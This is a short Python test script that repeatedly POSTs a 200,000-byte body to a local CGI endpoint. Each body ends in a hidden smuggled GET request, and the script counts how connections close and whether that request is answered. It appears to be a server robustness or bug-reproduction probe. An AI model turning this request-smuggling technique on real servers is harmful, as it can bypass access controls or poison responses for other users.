#!/usr/bin/env python3
"""cgiunread2.py PORT N [PATH]: N times, POST a 200000-byte body ending in a hidden
GET /sub?smuggled=1 to a CGI that never reads stdin; counts how the connection
ended (EOF/kept) and whether the hidden request was ever answered."""
import socket, sys, collections
port, n = int(sys.argv[1]), int(sys.argv[2]); path = sys.argv[3] if len(sys.argv) > 3 else "/cgi-bin/env.sh"
S = b"GET /sub?smuggled=1 HTTP/1.1\r\nHost: a\r\n\r\n"
c = collections.Counter()
for i in range(n):
    body = b"x" * 200000 + S
    s = socket.create_connection(("127.0.0.1", port)); s.settimeout(2)
    s.sendall(b"POST " + path.encode() + b" HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    out = b""; how = "?"
    try:
        while True:
            d = s.recv(65536)
            if not d: how = "EOF"; break
            out += d
    except socket.timeout: how = "kept-alive"
    except ConnectionResetError: how = "RST"
    s.close()
    c[(how, out.count(b"HTTP/1.1 "), b"smuggled" in out or out.count(b"HTTP/1.1 301") > 0)] += 1
print(dict(c), "(how, responses, hidden answered)")
